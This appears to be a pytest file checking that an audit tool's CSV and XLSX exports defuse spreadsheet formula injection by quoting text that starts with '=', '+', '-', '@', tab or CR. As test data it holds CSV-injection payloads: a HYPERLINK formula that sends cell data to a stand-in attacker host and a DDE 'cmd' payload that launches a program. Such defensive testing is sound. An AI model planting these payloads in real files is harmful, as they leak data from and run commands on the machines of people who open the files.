"""Exports never hand a spreadsheet a live formula (SECURITY.md, "Exports").

A modality may send any Station Name or protocol text; a physicist may name a level set anything.
A text starting with ``=``, ``+``, ``-``, ``@``, tab or CR becomes a formula when a committee member
opens a CSV or XLSX (OWASP, CSV injection): each must arrive as text prefixed with ``'``, in every
export and both formats, while numbers stay numbers. Invented data (demo hospital).
"""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest
from api_support import parse_result, seed
from openpyxl import load_workbook

from beamaudit.api.review.spreadsheet import safe_text, unquote_text

LINK = '=HYPERLINK("http://attacker.invalid/?d="&A1,"open")'
CSV_TYPE = {"Content-Type": "text/csv"}


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.5", "-0.5"),  # a number written as text stays a number
        ("1e-3", "1e-3"),
        ("RAD1", "RAD1"),
        ("'quoted", "'quoted"),
    ],
)
def test_the_rule_and_its_inverse(text: str, written: str) -> None:
    assert safe_text(text) == written
    assert unquote_text(written) == text


def test_review_result_csv_and_xlsx_hold_no_formula(api) -> None:
    seed(
        api.store,
        [
            parse_result(
                f"1.2.9.{i}",
                study=f"1.2.9.{i}00",
                station=LINK,
                when=datetime(2026, 11, 1 + i % 28, 10),
                body_part="CHEST",
                view_position="PA",
                protocol_name="@SUM(1+1)",
                dap_gy_cm2=0.12 + 0.01 * i,
            )
            for i in range(25)
        ],
    )
    levels = {
        "name": "+local levels (invented)",
        "kind": "local",
        "version": "2026-1",
        "effective_from": "2026-01-01",
        "levels": [{"exam_type": "chest_pa", "quantity": "dap_gy_cm2", "value": 0.1}],
    }
    assert api.post("/level-sets", json=levels).status_code == 201
    run = api.post("/reviews", json={"period": "2026-11"}).json()
    assert run["status"] == "done", run

    rows = list(csv.DictReader(io.StringIO(api.get(f"/reviews/{run['id']}/result.csv").text)))
    rooms = {r["room"] for r in rows}
    assert rooms == {"'" + LINK}
    assert {r["level_set"] for r in rows if r["level_set"]} == {"'+local levels (invented)"}
    assert any(float(r["median"]) > 0 for r in rows if r["median"])  # numbers stay numbers

    book = load_workbook(io.BytesIO(api.get(f"/reviews/{run['id']}/result.xlsx").content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert "'" + LINK in texts
    groups = book["groups"]
    header = [c.value for c in groups[1]]
    medians = [row[header.index("median")].value for row in groups.iter_rows(min_row=2)]
    assert any(isinstance(v, float) for v in medians)


def test_level_set_csv_export_is_safe_and_round_trips(api) -> None:
    body = {
        "name": "=cmd|' /C calc'!A0",
        "kind": "local",
        "version": "-1",
        "effective_from": "2026-01-01",
        "source": "@committee",
        "levels": [{"exam_type": "chest_pa", "quantity": "dap_gy_cm2", "value": 0.1}],
    }
    created = api.post("/level-sets", json=body, as_="physicist")
    assert created.status_code == 201, created.text
    text = api.get("/level-sets.csv").text
    data = [line for line in text.splitlines() if not line.startswith("#")]
    rows = list(csv.DictReader(io.StringIO("\n".join(data))))
    assert rows[0]["set_name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["version"] == "-1"  # a number as text: left as it is
    assert rows[0]["set_source"] == "'@committee"
    assert float(rows[0]["value"]) == pytest.approx(0.1)
    # read back by beamaudit, the names are what was stored
    from beamaudit.api.review.levels import read_levels_csv

    (back,) = read_levels_csv(io.BytesIO(text.encode()))
    assert back.name == body["name"] and back.source == "@committee"
